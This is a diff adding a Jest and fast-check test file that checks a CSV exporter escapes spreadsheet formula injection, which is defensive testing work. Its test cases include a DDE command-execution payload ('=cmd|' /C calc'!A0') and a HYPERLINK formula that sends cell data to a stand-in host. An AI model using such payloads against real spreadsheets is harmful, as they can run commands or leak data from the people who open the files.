@@ -1,0 +1,84 @@
+import { describe, expect, test } from '@jest/globals';
+import fc from 'fast-check';
+
+import { formatCell } from '../../src/exporter/formatCell.ts';
+
+import { parseCsv } from './parseCsv.ts';
+
+describe('a cell', () => {
+  test.each<[unknown, string]>([
+    ['CORP\\ana', 'CORP\\ana'],
+    [null, ''],
+    [undefined, ''],
+    [0, '0'],
+    [false, 'false'],
+    [1.5, '1.5'],
+    [['10.0.0.1', 'fe80::1'], '10.0.0.1 fe80::1'],
+    [[], ''],
+    ['a,b', '"a,b"'],
+    ['say "hi"', '"say ""hi"""'],
+    ['two\nlines', '"two\nlines"'],
+    ['a=b', 'a=b'],
+    ['ana@corp.example', 'ana@corp.example'],
+    ['s=4f3a;i=1f', 's=4f3a;i=1f'],
+  ])('%j is %s', (value, cell) => {
+    expect(formatCell(value)).toBe(cell);
+  });
+
+  test.each([
+    ['=1+1', "'=1+1"],
+    ['+1', "'+1"],
+    ['-1', "'-1"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
+    ['=HYPERLINK("http://x/?"&A1,"a")', '"\'=HYPERLINK(""http://x/?""&A1,""a"")"'],
+    ['\t=1', "'\t=1"],
+    ['\tx', "'\tx"],
+    ['\rx', '"\'\rx"'],
+    ['\nx', '"\'\nx"'],
+    ['  =1', "'  =1"],
+    ['\u00A0\u3000=1', "'\u00A0\u3000=1"],
+    ['\uFEFF\u200B=1', "'\uFEFF\u200B=1"],
+    ['"=1', '"\'""=1"'],
+    ['＝1+1', "'＝1+1"],
+    ['＋1', "'＋1"],
+    ['－1', "'－1"],
+    ['＠SUM(A1)', "'＠SUM(A1)"],
+    ['ana;=1+1', "ana;'=1+1"],
+    ['ana; "=1+1', '"ana;\' ""=1+1"'],
+  ])('%j is no formula', (value, cell) => {
+    expect(formatCell(value)).toBe(cell);
+  });
+
+  const text = fc.string({
+    unit: fc.constantFrom(...'a|=|+|-|@|＝|＠|"|,|;| |\t|\r|\n|\u3000|\u200B|\''.split('|')),
+    maxLength: 12,
+  });
+
+  test('read again is what it was, apostrophes apart, and begins no formula', () => {
+    fc.assert(
+      fc.property(fc.array(text, { minLength: 2, maxLength: 5 }), (values) => {
+        const [cells = []] = parseCsv(`${values.map(formatCell).join(',')}\r\n`, ',');
+        expect(cells.map(withoutApostrophes)).toEqual(values.map(withoutApostrophes));
+        for (const cell of cells) expect(cell).not.toMatch(FORMULA);
+      }),
+      { numRuns: 2_000 },
+    );
+  });
+
+  test('begins none where semicolons separate either', () => {
+    fc.assert(
+      fc.property(text, text, (one, other) => {
+        // Line ends outside quotes: such a reader also sees lines where we meant none.
+        const rows = parseCsv(`2026,${formatCell(one)},${formatCell(other)}\r\n`, ';').flat();
+        const begun = rows.filter((cell) => /^[\s"\u200B]*[=+\-@＝＠]/u.test(cell));
+        fc.pre(!/[\r\n]/.test(one + other));
+        expect(begun).toEqual([]);
+      }),
+      { numRuns: 2_000 },
+    );
+  });
+});
+
+const withoutApostrophes = (value: string): string => value.replaceAll("'", '');
+const FORMULA = /^(?:[\t\r\n]|[\s\u200B]*[=+\-@＝＠])/u;
